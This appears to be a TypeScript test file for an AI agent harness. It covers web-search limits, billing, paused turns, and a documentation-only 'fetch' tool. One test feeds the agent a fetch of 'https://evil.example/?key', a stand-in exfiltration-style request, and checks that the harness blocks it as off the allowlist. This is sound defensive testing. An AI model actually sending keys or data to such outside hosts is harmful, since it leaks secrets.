import { describe, expect, it } from "vitest";
import { close, converse } from "./support/conducted.ts";
import type { Answer } from "./support/messages.ts";

const look: Answer = { call: [["bash", { command: "true" }]] };
const searching = (queries: string[], more: object = look): Answer => ({
  ...more,
  search: queries,
});
type Session = Awaited<ReturnType<typeof converse>>;
/**
 * Returns the searches that each request allows the provider; null = the request had no search
 * tool.
 */
const allowed = ({ api }: Session) =>
  api.sent.map(
    ({ body }) => body.tools.find(({ type }) => type === "web_search_20250305")?.max_uses ?? null,
  );

describe("a session that may search the web", () => {
  it("has the provider's search, limited to the uses that the whole session has left", async () => {
    const answers = [
      searching(["node 26 release"]),
      look,
      searching(["zod 5", "zod 6"]),
      searching(["more"]),
      close,
    ];
    await using session = await converse(answers, { searches: 3 });
    expect(allowed(session)).toEqual([3, 2, 2, null, null]);
    expect(session.result.ended).toBe("closed");
    expect(session.lines).toContain("| web_search: node 26 release");
    expect(session.lines).toContain("|   1 pages");
  });

  it("sends the search results unchanged in its next request", async () => {
    await using session = await converse([searching(["node 26 release"]), close], { searches: 3 });
    const blocks = session.api.sent[1]!.body.messages[1]!.content as { type: string }[];
    expect(blocks.map(({ type }) => type)).toEqual([
      "server_tool_use",
      "web_search_tool_result",
      "tool_use",
    ]);
    expect(JSON.stringify(blocks)).toContain('"encrypted_content":"e"');
  });

  it("continues a turn that the provider paused, without another message", async () => {
    const paused = searching(["node 26 release"], { stop: "pause_turn" });
    await using session = await converse([paused, close], { searches: 3 });
    expect(session.result.ended).toBe("closed");
    expect(session.api.sent[1]!.body.messages.map(({ role }) => role)).toEqual([
      "user",
      "assistant",
    ]);
    expect(allowed(session)).toEqual([3, 2]);
  });

  it("pays $10 for a thousand searches in addition to the tokens", async () => {
    await using session = await converse([searching(["a", "b"]), close], { searches: 5 });
    await using without = await converse([look, close], { searches: 5 });
    expect(session.usage.dollars! - without.usage.dollars!).toBeCloseTo(0.02, 9);
  });

  it("counts the searches of an interrupted answer", async () => {
    const cut: Answer = { broken: null, search: ["a", "b"] };
    await using session = await converse([cut, close], { searches: 3 });
    expect(allowed(session)).toEqual([3, 1]);
  }, 10_000);

  it("learns of the search from its prompt, and no other session does", async () => {
    await using one = await converse([close], { searches: 3 });
    await using other = await converse([close], { searches: 0 });
    expect(JSON.stringify(one.api.sent[0]!.body.system)).toContain(
      "`web_search` finds pages of the whole web",
    );
    expect(JSON.stringify(other.api.sent[0]!.body)).not.toContain("web_search");
  });
});

describe("a session that may read documentation", () => {
  it("has the tool `fetch` and learns of it from its prompt; no other session does", async () => {
    const input = { docs: ["docs.python.org"] };
    await using one = await converse([close], { input });
    await using other = await converse([close]);
    expect(one.api.sent[0]!.body.tools.map(({ name }) => name)).toContain("fetch");
    expect(JSON.stringify(one.api.sent[0]!.body.system)).toContain("`fetch` reads a page");
    expect(JSON.stringify(other.api.sent[0]!.body)).not.toContain("fetch");
  });

  it("learns from the tool why a page can't be read, and continues", async () => {
    const asking: Answer = { call: [["fetch", { url: "https://evil.example/?key" }]] };
    await using session = await converse([asking, close], { input: { docs: ["docs.python.org"] } });
    const [result] = session.api.results(1);
    expect(result).toMatchObject({ is_error: true });
    expect(String(result!.content)).toContain("evil.example is not a host of documentation");
    expect(session.lines).toContain("| fetch https://evil.example/?key");
  });
});
